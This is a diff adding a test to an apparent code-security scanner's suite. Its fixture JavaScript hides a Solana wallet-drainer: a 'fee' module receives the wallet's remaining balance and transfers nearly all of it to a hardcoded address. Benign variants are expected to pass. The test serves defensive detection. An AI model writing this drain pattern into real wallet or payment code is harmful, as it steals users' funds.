@@ -33,3 +33,14 @@ test('good: amounts and payees of users, contracts and their prices', () => {
     socket('{ from: owner, to: job.to, value: job.value, data: job.data }'),
   ]) assert.equal(worst(code), 'nothing', code);
 });
+
+test('bad: what a wallet has is handed to a function of another script that pays it to an address that is written there; good: amounts that users give, and payees that they choose', () => {
+  const POOL = '7xWq3kPzT9vNbR2mYcH5sLdF8gJaE4uKoQ1iXtZ6VnBp';
+  const worstOf = (given: string, payee = 'POOL', imported = 'const fee_1 = require("./fee");'): string => findingsOf(rule, {
+    'index.js': `"use strict"; ${imported} exports.transfer = async (net, from, to, sol, tx) => { const rest = (await net.getBalance(from.publicKey)) - sol; for (const each of (0, fee_1.more)(${given})) tx.add(each); return net.sendTransaction(tx, [from]) }`,
+    'fee.js': `"use strict"; const web3_js_1 = require("@solana/web3.js"); const POOL = "${POOL}"; function more(owner, left, chosen) { return left < 5000 ? [] : [web3_js_1.SystemProgram.transfer({ fromPubkey: owner, toPubkey: new web3_js_1.PublicKey(${payee}), lamports: left - 5000 })] } exports.more = more;`,
+  })[0]?.severity ?? 'nothing';
+  assert.equal(worstOf('from.publicKey, rest'), 'high');
+  for (const [given, payee] of [['from.publicKey, sol'], ['from.publicKey, rest, to', 'chosen'], ['rest, sol']] as const) assert.equal(worstOf(given, payee), 'nothing', given);
+  assert.equal(worstOf('from.publicKey, rest', undefined, 'const fee_1 = require("./other");'), 'nothing');
+});
